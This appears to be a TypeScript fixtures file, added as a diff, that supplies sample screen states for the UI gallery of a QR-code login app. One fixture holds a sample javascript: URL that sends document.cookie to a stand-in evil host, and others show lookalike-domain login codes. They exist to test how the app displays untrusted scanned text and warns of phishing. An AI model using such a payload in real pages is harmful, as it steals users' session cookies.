@@ -1,0 +1,195 @@
+import type { AccountView, Outline, Problem, Prompt, Screen, SessionView, Settings, ViewState } from "../generated";
+
+/** A moment that all fixtures share, in Unix seconds; the gallery shifts it to the present. */
+export const FIXTURE_NOW_S = 1_795_000_000;
+
+const settings: Settings = {
+  camera: null,
+  start_at_login: false,
+  close_to_tray: true,
+  notifications: true,
+  language: "en",
+  theme: "light",
+};
+
+export const ada: AccountView = {
+  id: "a1",
+  server_name: "Example",
+  origin: "https://login.example.com",
+  host: "login.example.com",
+  username: "ada",
+  display_name: "Ada Lovelace",
+  pinned: false,
+  state: "ready",
+  activity_alarm: false,
+};
+
+export const work: AccountView = {
+  id: "a2",
+  server_name: "Analytical Engines Ltd",
+  origin: "https://id.analytical-engines.example:8443",
+  host: "id.analytical-engines.example:8443",
+  username: "a.lovelace",
+  display_name: "Ada Lovelace (work)",
+  pinned: true,
+  state: "ready",
+  activity_alarm: false,
+};
+
+function problem(error: Problem["error"]): Problem {
+  return { error, details: `fixture: ${error.code}` };
+}
+
+const sessions: SessionView[] = [
+  { id: "s1", created_at: FIXTURE_NOW_S - 20, last_seen_at: FIXTURE_NOW_S - 5, address: "203.0.113.7", browser: "Firefox 153", system: "Windows 11", device_name: "Workshop", by_this_device: true },
+  { id: "s2", created_at: FIXTURE_NOW_S - 9000, last_seen_at: FIXTURE_NOW_S - 7300, address: "198.51.100.23", browser: "Safari 27", system: "macOS", device_name: "Workshop", by_this_device: true },
+  { id: "s3", created_at: FIXTURE_NOW_S - 400_000, last_seen_at: FIXTURE_NOW_S - 350_000, address: "2001:db8::17", browser: "", system: "", device_name: "Ada’s laptop", by_this_device: false },
+];
+
+const prompt: Prompt = {
+  id: 1,
+  origin: "https://login.example.com",
+  host: "login.example.com",
+  client: null,
+  scopes: [],
+  account: "a1",
+  warnings: [],
+  seen: { address: "203.0.113.7", started_at: FIXTURE_NOW_S - 8, started_s_ago: 8, same_network: true, known_browser: true, frame_age_s: 3 },
+  claimed: { browser: "Firefox 153", system: "Windows 11", language: "de" },
+  via: "camera",
+  check_wanted: true,
+  tries_left: null,
+  left_s: 108,
+  deciding: null,
+  problem: null,
+};
+
+const live = { camera: "live", name: "Integrated Camera", width: 640, height: 480, mirrored: true, outline: null, hint: "search" } as const;
+const found: Outline = [
+  { x: 0.38, y: 0.3 },
+  { x: 0.62, y: 0.33 },
+  { x: 0.6, y: 0.66 },
+  { x: 0.36, y: 0.62 },
+];
+
+const QR =
+  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAACkAAAApAQAAAACAGz1bAAAA5UlEQVR42mP4DwINDFipD/LnTNgbGL5fDsr93sDwJfZBqDiQCglbCqJCz14FUt+vHZwLlPsgLPQFqPL/pyJ+oL4/5pdLyxsY/v27e0+/geEHwwWv9w0MP7/ciAVq+Gja9cofKPh6yWb1BoZv5euC+IEagn4dXd7A8CvYSnk/kCdywAGo72+EwLnpQBtEGFYAbfhaJCEEcsv7BTOARn94deJXONCUwCemz4EaWP8eXg+0/fvvRCDvg1zvvHSgyjvps7cD3RkQ/8Ec5Oq1bfZAKljgUjtQ7kq7PtCGD7LXOMxx+B1CAQAjhZ554XVzCAAAAABJRU5ErkJggg==";
+
+function state(screen: Screen, more: Partial<ViewState> = {}): ViewState {
+  return { revision: 1, screen, notice: null, accounts: [ada], settings, ...more };
+}
+
+function scan(part: Partial<Extract<Screen, { view: "scan" }>>): ViewState {
+  return state({ view: "scan", camera: live, cameras: [], work: "idle", problem: null, ...part });
+}
+
+function authorize(part: Partial<Prompt>, more: Partial<ViewState> = {}): ViewState {
+  return state({ view: "authorize", prompt: { ...prompt, ...part } }, more);
+}
+
+function ended(reason: "time_over" | "wrong_numbers" | "by_server"): ViewState {
+  return state({ view: "outcome", origin: ada.origin, account: "a1", outcome: { outcome: "ended", reason } });
+}
+
+/** One state for every face of every view. The names are the arguments of `gallery.html?fixture=`. */
+export const fixtures: Record<string, ViewState> = {
+  "loading": state({ view: "loading" }, { accounts: [] }),
+  "start-trouble-keychain-none": state({ view: "start_trouble", problem: problem({ code: "keychain_none" }), retrying: false }, { accounts: [] }),
+  "start-trouble-retrying": state({ view: "start_trouble", problem: problem({ code: "keychain_locked" }), retrying: true }, { accounts: [] }),
+  "first-start": state({ view: "first_start" }, { accounts: [] }),
+  "add-account": state({ view: "add_account", problem: null }, { accounts: [] }),
+  "add-account-link-used": state({ view: "add_account", problem: problem({ code: "link_used" }) }, { accounts: [] }),
+  "confirm-contact": state({ view: "confirm_contact", host: "login.example.com", origin: "https://login.example.com", pinned: false }, { accounts: [] }),
+  "confirm-contact-pinned": state({ view: "confirm_contact", host: "192.168.1.20:8443", origin: "https://192.168.1.20:8443", pinned: true }, { accounts: [] }),
+  "enrolling": state({ view: "enrolling", host: "login.example.com" }, { accounts: [] }),
+  "confirm-account": state({ view: "confirm_account", origin: ada.origin, server_name: ada.server_name, username: "ada", display_name: "Ada Lovelace", working: false, problem: null }, { accounts: [] }),
+  "choose-account": state({ view: "choose_account", origin: ada.origin, candidates: ["a1", "a3"] }, { accounts: [ada, { ...ada, id: "a3", username: "countess", display_name: "Countess of Lovelace" }] }),
+  "scan": scan({}),
+  "scan-found": scan({ camera: { ...live, outline: found, hint: null } }),
+  "scan-asking": scan({ camera: { ...live, outline: found, hint: null }, work: "asking_server" }),
+  "scan-starting": scan({ camera: { camera: "starting" } }),
+  "scan-off": scan({ camera: { camera: "off" } }),
+  "scan-no-camera": scan({ camera: { camera: "failed", problem: problem({ code: "camera_none" }), watching: true } }),
+  "scan-camera-busy": scan({ camera: { camera: "failed", problem: problem({ code: "camera_busy" }), watching: false } }),
+  "scan-expired": scan({ problem: problem({ code: "code_expired" }), cameras: [{ id: "c1", name: "Integrated Camera" }, { id: "c2", name: "USB camera" }] }),
+  "type-code": state({ view: "type_code", account: "a1", working: false, problem: null }, { accounts: [ada, work] }),
+  "type-code-unknown": state({ view: "type_code", account: "a1", working: false, problem: problem({ code: "code_unknown" }) }),
+  "foreign-text": state({ view: "foreign_text", kind: "other_scheme", text: "javascript:fetch('https://evil.example/?'+document.cookie)", truncated: false, note: { note: "none" } }),
+  "foreign-unknown-server": state({ view: "foreign_text", kind: "login_code", text: "HTTPS://LOGIN.OTHER.EXAMPLE/Q/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", truncated: false, note: { note: "unknown_server", origin: "https://login.other.example" } }),
+  "foreign-lookalike": state({ view: "foreign_text", kind: "login_code", text: "HTTPS://LOGIN.EXAMP1E.COM/Q/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", truncated: false, note: { note: "lookalike", origin: "https://login.examp1e.com", resembles: "https://login.example.com" } }),
+  "foreign-long": state({ view: "foreign_text", kind: "text", text: "All work and no play. ".repeat(180), truncated: true, note: { note: "none" } }),
+  "authorize": authorize({}),
+  "authorize-other-network": authorize({
+    warnings: [
+      { code: "different_network", severity: "danger" },
+      { code: "browser_first_seen", severity: "info" },
+    ],
+    seen: { ...prompt.seen, same_network: false, known_browser: false },
+  }),
+  "authorize-link": authorize({
+    via: "link",
+    warnings: [
+      { code: "came_by_link", severity: "danger" },
+      { code: "network_unknown", severity: "caution" },
+      { code: "browser_first_seen", severity: "info" },
+    ],
+    seen: { ...prompt.seen, same_network: null, known_browser: false, frame_age_s: 41 },
+    left_s: 14,
+  }),
+  "authorize-client": authorize({ client: "Drawing Board", scopes: ["openid", "profile"], host: work.host, origin: work.origin, account: "a2" }, { accounts: [ada, work] }),
+  "authorize-wrong-number": authorize({ tries_left: 2, problem: problem({ code: "wrong_check", tries_left: 2 }) }),
+  "authorize-deciding": authorize({ deciding: "approve" }),
+  "waiting-for-page": state({ view: "waiting_for_page", origin: ada.origin, account: "a1", left_s: 58, problem: null }),
+  "outcome-signed-in": state({ view: "outcome", origin: ada.origin, account: "a1", outcome: { outcome: "signed_in", session: sessions[0]! } }),
+  "outcome-never-came": state({ view: "outcome", origin: ada.origin, account: "a1", outcome: { outcome: "page_never_came" } }),
+  "outcome-denied": state({ view: "outcome", origin: ada.origin, account: "a1", outcome: { outcome: "denied" } }),
+  "outcome-reported": state({ view: "outcome", origin: ada.origin, account: "a1", outcome: { outcome: "reported" } }),
+  "outcome-time-over": ended("time_over"),
+  "outcome-wrong-numbers": ended("wrong_numbers"),
+  "outcome-by-server": ended("by_server"),
+  "sessions": state({ view: "sessions", account: "a1", sessions: { items: sessions, loading: false, problem: null }, ending: ["s3"] }),
+  "sessions-two-accounts": state({ view: "sessions", account: "a1", sessions: { items: sessions.slice(0, 1), loading: false, problem: null }, ending: [] }, { accounts: [ada, work], notice: { id: 4, message: { notice: "session_ended" } } }),
+  "sessions-empty": state({ view: "sessions", account: "a1", sessions: { items: [], loading: false, problem: null }, ending: [] }),
+  "sessions-loading": state({ view: "sessions", account: "a1", sessions: { items: null, loading: true, problem: null }, ending: [] }),
+  "sessions-offline": state({ view: "sessions", account: "a1", sessions: { items: sessions, loading: false, problem: problem({ code: "server_unreachable", host: "login.example.com" }) }, ending: [] }),
+  "devices": state({
+    view: "devices",
+    account: "a1",
+    devices: {
+      items: [
+        { id: "d1", name: "Workshop", kind: "linux", created_at: FIXTURE_NOW_S - 9_000_000, last_seen_at: FIXTURE_NOW_S - 3, current: true },
+        { id: "d2", name: "Ada’s laptop", kind: "macos", created_at: FIXTURE_NOW_S - 5_000_000, last_seen_at: FIXTURE_NOW_S - 7400, current: false },
+        { id: "d3", name: "Old desk computer in the reading room", kind: "windows", created_at: FIXTURE_NOW_S - 5_000_000, last_seen_at: null, current: false },
+      ],
+      loading: false,
+      problem: null,
+    },
+    changing: [],
+  }),
+  "add-computer": state({ view: "add_computer", account: "a1", code: { link: "https://login.example.com/E/AAAAAAAAAAAAAAAAAAAAAAAAAA", png: QR, size: 41, left_s: 588 }, problem: null }),
+  "add-computer-failed": state({ view: "add_computer", account: "a1", code: null, problem: problem({ code: "server_timeout", host: "login.example.com" }) }),
+  "activity": state({
+    view: "activity",
+    account: "a1",
+    entries: {
+      items: [
+        { seq: 9, at: FIXTURE_NOW_S - 15, kind: "session_created", summary: "A browser was signed in.", address: "203.0.113.7", device: "Workshop", session: "s1" },
+        { seq: 8, at: FIXTURE_NOW_S - 18, kind: "login_approved", summary: "A login was approved.", address: "203.0.113.7", device: "Workshop", session: null },
+        { seq: 7, at: FIXTURE_NOW_S - 4000, kind: "login_reported", summary: "A login was reported as not mine.", address: "192.0.2.44", device: "Workshop", session: null },
+        { seq: 6, at: FIXTURE_NOW_S - 90_000, kind: "device_enrolled", summary: "A device was added.", address: "198.51.100.23", device: "Ada’s laptop", session: null },
+        { seq: 5, at: FIXTURE_NOW_S - 91_000, kind: "login_denied", summary: "A login was denied.", address: "203.0.113.9", device: "Workshop", session: null },
+      ],
+      loading: false,
+      problem: null,
+    },
+  }),
+  "activity-alarm": state({ view: "activity", account: "a1", entries: { items: [], loading: false, problem: null } }, { accounts: [{ ...ada, activity_alarm: true }] }),
+  "accounts": state({ view: "accounts", working: [] }, { accounts: [ada, work] }),
+  "accounts-trouble": state({ view: "accounts", working: [] }, { accounts: [{ ...ada, state: "signed_out" }, { ...work, state: "key_missing", activity_alarm: true }] }),
+  "settings": state({ view: "settings", erasing: false, version: "0.1.0" }),
+  "update-needed": state({ view: "update_needed", problem: problem({ code: "app_too_old", host: "login.example.com" }) }),
+  "notice-failed": state({ view: "sessions", account: "a1", sessions: { items: sessions, loading: false, problem: null }, ending: [] }, { notice: { id: 1, message: { notice: "failed", problem: problem({ code: "server_unavailable", host: "login.example.com" }) } } }),
+  "notice-new-sign-in": scan({}),
+};
+
+fixtures["notice-new-sign-in"]!.notice = { id: 2, message: { notice: "new_sign_in", host: "login.example.com", browser: "Firefox 153", system: "Windows 11" } };
